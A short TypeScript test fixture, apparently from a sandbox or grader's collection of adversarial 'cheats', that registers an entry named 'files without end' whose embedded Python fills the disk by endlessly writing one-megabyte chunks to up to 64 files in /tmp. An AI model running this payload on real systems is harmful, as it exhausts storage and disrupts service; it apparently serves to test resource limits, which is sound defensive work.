import { atImport, type Cheat } from "../cheat.ts";

export const cheat: Cheat = {
  name: "files without end",
  from: "ours",
  files: atImport(`
_n = 0
while _n < 64:
    _n += 1
    try:
        with open(f"/tmp/full{_n}", "wb") as _file:
            while 1 == 1: _file.write(b"x" * (1 << 20))
    except OSError: pass
`),
};
